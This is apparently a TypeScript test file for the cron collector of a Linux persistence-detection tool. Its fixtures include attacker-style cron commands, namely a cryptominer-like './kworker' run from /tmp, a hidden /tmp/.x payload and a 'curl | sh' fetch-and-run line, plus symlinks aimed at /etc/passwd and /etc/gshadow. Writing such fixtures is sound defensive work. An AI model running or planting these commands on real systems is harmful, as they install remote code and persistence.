import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { collectFrom, debianCron, RECENT } from '../../../test/helpers/persistence';
import { commandWords, scriptRunners } from './command-targets';
import { builtinIntel } from '../../intel/intel';
import cronJobs, { parseAnacronLine, parseCronLine } from './cron';

const tables0 = (facts: ReturnType<typeof collectFrom>['facts']) => facts.cronJobs ?? [];

describe('cron collector', () => {
  it('parses system, user and anacron lines into schedule, user and command', () => {
    assert.deepEqual(parseCronLine('*/5 * * * * root  /usr/bin/x --a  "b c"', true), {
      schedule: '*/5 * * * *',
      user: 'root',
      command: '/usr/bin/x --a  "b c"',
    });
    assert.deepEqual(parseCronLine('@reboot /opt/a.sh', false), { schedule: '@reboot', user: null, command: '/opt/a.sh' });
    assert.deepEqual(parseCronLine('0 3 * * mon-fri  tar czf /b.tgz /etc', false), {
      schedule: '0 3 * * mon-fri',
      user: null,
      command: 'tar czf /b.tgz /etc',
    });
    assert.equal(parseCronLine('not a cron line at all', true), null);
    assert.deepEqual(parseAnacronLine('1\t5\tcron.daily\trun-parts --report /etc/cron.daily'), {
      schedule: '1 5 cron.daily',
      command: 'run-parts --report /etc/cron.daily',
    });
  });

  it('finds the programs a command runs through wrappers, shells and cd', () => {
    const runners = scriptRunners(builtinIntel().paths);
    const words = (c: string) => commandWords(c, runners).map((w) => w.word);
    assert.deepEqual(words('cd /tmp && ./kworker -o pool:3333 >/dev/null 2>&1 &'), ['./kworker']);
    assert.deepEqual(words('sudo -u www nohup /tmp/.x/run &'), ['/tmp/.x/run']);
    assert.deepEqual(words(`su - bob -c "/home/bob/.x/y"`), ['/home/bob/.x/y']);
    assert.deepEqual(words(`/bin/sh -c 'curl -fsSL http://a/b | sh'`), ['/bin/sh', 'curl', 'sh']);
    assert.deepEqual(words('flock -n /tmp/lock /usr/local/bin/backup.sh'), ['/usr/local/bin/backup.sh']);
    assert.deepEqual(words('python3 /opt/app/run.py --x 2>&1 | logger -t app'), ['python3', '/opt/app/run.py', 'logger']);
    assert.deepEqual(words('[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi'), [
      '/usr/lib/php/sessionclean',
    ]);
  });

  it('reads every place cron looks, with targets resolved inside the root', () => {
    const { facts, gaps } = collectFrom(
      (r) => {
        debianCron(r)
          .write('/etc/anacrontab', 'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n')
          .write(
            '/var/spool/cron/crontabs/root',
            'PATH=/usr/local/bin:/usr/bin:/bin\n@reboot backup.sh\n0 1 * * * /usr/local/bin/report.sh %daily% extra\n',
            { mtime: RECENT },
          )
          .write('/var/spool/cron/alice', '* * * * * /home/alice/run\n')
          .write('/usr/local/bin/backup.sh', '#!/bin/sh\n', { mode: 0o755 })
          .mkdir('/var/spool/cron/atjobs');
      },
      [cronJobs],
    );
    assert.deepEqual(gaps, []);
    const tables = facts.cronJobs ?? [];
    const byPath = new Map(tables.map((t) => [t.file.path, t]));
    assert.deepEqual([...byPath.keys()].sort(), [
      '/etc/anacrontab',
      '/etc/cron.d/.placeholder',
      '/etc/cron.d/certbot',
      '/etc/cron.d/e2scrub_all',
      '/etc/cron.d/sysstat',
      '/etc/cron.daily/apt-compat',
      '/etc/cron.daily/dpkg',
      '/etc/cron.daily/logrotate',
      '/etc/cron.daily/man-db',
      '/etc/cron.weekly/man-db',
      '/etc/crontab',
      '/var/spool/cron/alice',
      '/var/spool/cron/crontabs/root',
    ]);
    const root = byPath.get('/var/spool/cron/crontabs/root');
    assert.equal(root?.kind, 'user');
    assert.deepEqual(root?.env, [{ line: 1, text: 'PATH=/usr/local/bin:/usr/bin:/bin' }]);
    assert.deepEqual(
      root?.entries.map((e) => [e.line, e.schedule, e.user, e.command, e.targets.map((t) => `${t.path}:${t.exists}`)]),
      [
        [2, '@reboot', 'root', 'backup.sh', ['/usr/local/bin/backup.sh:true']],
        [3, '0 1 * * *', 'root', '/usr/local/bin/report.sh %daily% extra', ['/usr/local/bin/report.sh:false']],
      ],
    );
    assert.equal(root?.file.mtime, RECENT.toISOString());
    assert.equal(byPath.get('/var/spool/cron/alice')?.entries[0].user, 'alice');
    assert.equal(byPath.get('/etc/crontab')?.entries.length, 4);
    assert.equal(byPath.get('/etc/cron.daily/dpkg')?.kind, 'script');
    assert.equal(byPath.get('/etc/anacrontab')?.entries[0].schedule, '1 5 cron.daily');
  });

  it('survives junk: NUL bytes, invalid UTF-8, huge lines, FIFOs and links out of the root', () => {
    const { facts, gaps } = collectFrom(
      (r) => {
        r.write(
          '/etc/cron.d/junk',
          Buffer.concat([
            Buffer.from('* * * * * root /tmp/a\n'),
            Buffer.from([0xff, 0xfe, 0x00, 0x80]),
            Buffer.from(`\n${'x'.repeat(300_000)}\n`),
          ]),
        )
          .write('/etc/cron.d/utf', Buffer.concat([Buffer.from('* * * * * root /opt/'), Buffer.from([0xc3, 0x28]), Buffer.from('x\n')]))
          .write('/etc/cron.d/long', `* * * * * root ${'/a'.repeat(100_000)}\n`)
          .symlink('/etc/cron.d/escape', '/etc/gshadow')
          .symlink('/var/spool/cron/crontabs/root', '../../../../../../etc/passwd');
        assert.equal(spawnSync('mkfifo', [r.p('/etc/cron.d/fifo')]).status, 0);
      },
      [cronJobs],
    );
    assert.ok(!tables0(facts).some((t) => t.file.path === '/etc/cron.d/fifo'), 'a FIFO is skipped without blocking');
    const tables = facts.cronJobs ?? [];
    assert.ok(tables.find((t) => t.file.path === '/etc/cron.d/junk')?.binary, 'NUL bytes make it binary, not parsed');
    assert.equal(tables.find((t) => t.file.path === '/etc/cron.d/utf')?.entries.length, 1);
    assert.ok(tables.find((t) => t.file.path === '/etc/cron.d/long'));
    // The link to /etc/passwd resolves inside the fake root: its content is the fixture's passwd, never the analyst's.
    const escaped = tables.find((t) => t.file.path === '/var/spool/cron/crontabs/root');
    assert.equal(escaped?.file.linkTarget, '../../../../../../etc/passwd');
    assert.ok(!JSON.stringify(facts).includes('/nonexistent:/usr/sbin/nologin'), 'nothing read outside the root');
    assert.ok(
      gaps.some((g) => g.path === '/etc/cron.d/escape'),
      'dangling link inside the root is a gap',
    );
  });
});
